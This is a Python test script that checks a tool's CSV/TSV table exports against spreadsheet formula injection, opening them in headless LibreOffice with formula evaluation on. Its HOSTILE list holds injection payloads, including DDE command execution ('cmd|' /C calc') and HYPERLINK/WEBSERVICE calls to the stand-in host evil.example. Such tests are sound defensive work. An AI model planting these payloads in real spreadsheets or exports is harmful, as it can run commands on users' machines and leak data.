#!/usr/bin/env python3
"""No cell of an exported table becomes a live formula in LibreOffice, and none loses its words.

Cards, themes, tags and recommendations begin with everything a spreadsheet runs: signs, wide signs,
blanks and tabs before them, DDE, hyperlinks. LibreOffice is told to evaluate formulas, as a careless
person would have it. The table without a guard (--raw) is the control: there formulas must be found.
Without LibreOffice: skipped. Argument: the program.
"""
import os
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ElementTree

PROGRAM = os.path.abspath(sys.argv[1])
HOSTILE = [
    '=1+1', '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", '=WEBSERVICE("http://evil.example")',
    '+1+1', '-1+1', '@SUM(1;1)', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', ' =1+1', '  +1+1', '\u00a0=1+1',
    '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '=DDE("soffice";"x";"y")', '=A1', '="a"&"b"', '=1+1",=2+2',
    '=1+1\n=2+2', 'plain words, with a comma', '"=1+1"', "'=1+1", ';=1+1', '|=1+1', '%=1+1', '=\u200b1+1',
    '{=1+1}', '=1+1;=2+2', 'a\t=1+1', '-', '=', '+', '@', '007', '2026-03-02', 'TRUE',
]
TABLE = '{urn:oasis:names:tc:opendocument:xmlns:table:1.0}'
TEXT = '{urn:oasis:names:tc:opendocument:xmlns:text:1.0}'
FILTER = 'CSV:%d,34,76,1,,0,false,true,false,false,false,0,true'  # evaluate formulas, quoted cells too
TABLES = ['csv', 'clips', 'jira', 'linear']


def themewall(*args, stdin=None):
    env = {**os.environ, 'THEMEWALL_NOW': '2026-03-16T14:02:07Z'}
    return subprocess.run([PROGRAM, *args], input=stdin, check=True, env=env, capture_output=True).stdout


def quoted(text):
    return '"' + text.replace('\\', '\\\\').replace('"', '\\"') + '"'


def build_wall():
    lines = ['cluster-new %s' % quoted('=1+1 theme'), 'cluster-new %s' % quoted('@SUM(1)')]
    for i, text in enumerate(HOSTILE, 1):
        text = text.replace('\n', ' ')
        lines += ['card-new observation ' + quoted(text), 'card-move C-%03d T-01' % i,
                  'card-imply C-%03d %s' % (i, quoted(text)),
                  'insight-new ' + quoted(text), 'recommend I-%d %s %s' % (i, quoted(text), quoted('=owner'))]
    themewall('run', 'w.wall', '-', stdin=('\n'.join(lines) + '\n').encode())
    cues = ''.join('\n%02d:00:01.000 --> %02d:00:09.000\nAna: %s\n' % (i, i, t.replace('\n', ' '))
                   for i, t in enumerate(HOSTILE) if t.strip() and '-->' not in t)
    with open('s.vtt', 'w') as file:
        file.write('WEBVTT\n' + cues)
    themewall('import', 'w.wall', 's.vtt', '--cards', 'turns')


def open_sheets(separator, files):
    subprocess.run(['soffice', '-env:UserInstallation=file://' + os.path.abspath('office'), '--headless',
                    '--infilter=' + FILTER % separator, '--convert-to', 'fods', '--outdir', 'out', *files],
                   check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=240)


def main():
    if not shutil.which('soffice'):
        print('1..0 # SKIP LibreOffice is not installed')
        return False
    build_wall()
    files = []
    for name in TABLES:
        for kind, options in (('plain', []), ('excel', ['--excel'])):
            files.append('%s-%s.csv' % (name, kind))
            themewall('export', 'w.wall', '--format', name, '-o', files[-1], *options)
    themewall('export', 'w.wall', '--format', 'csv', '--raw', '-o', 'raw.csv')
    themewall('export', 'w.wall', '--format', 'tsv', '-o', 'notes.csv')
    open_sheets(44, files + ['raw.csv'])
    open_sheets(9, ['notes.csv'])
    files.append('notes.csv')
    print('1..%d' % (len(files) + 2))
    failed = False
    for i, file in enumerate(files + ['raw.csv'], 1):
        cells = list(ElementTree.parse('out/' + file.replace('.csv', '.fods')).iter(TABLE + 'table-cell'))
        live = [c for c in cells if c.get(TABLE + 'formula') or c.get(TABLE + 'dde-link')]
        raw = file == 'raw.csv'
        good = len(cells) > 60 and bool(live) == raw
        failed |= not good
        print('%sok %d - %s: %d cells, %d live formulas%s' % ('' if good else 'not ', i, file, len(cells), len(live),
                                                             ', as it must be without a guard' if raw else ''))
        for cell in live[:5] if not good else []:
            print('# ' + str(cell.get(TABLE + 'formula')))
    shown = {''.join(p.itertext()).lstrip("'") for p in
             ElementTree.parse('out/csv-plain.fods').iter(TEXT + 'p')}
    missing = [t for t in HOSTILE if t.split('\n')[0].strip(' ').lstrip("'") and not any(
        t.replace('\n', ' ').replace('\t', '').strip(' ').lstrip("'") in s.replace('\t', '') for s in shown)]
    print('%sok %d - the words are all there %s' % ('not ' if missing else '', len(files) + 2, missing or ''))
    return failed or bool(missing)


with tempfile.TemporaryDirectory() as folder:
    os.chdir(folder)
    for name in ('XDG_DATA_HOME', 'XDG_STATE_HOME', 'XDG_CONFIG_HOME', 'HOME'):
        os.environ[name] = folder
    sys.exit(main())
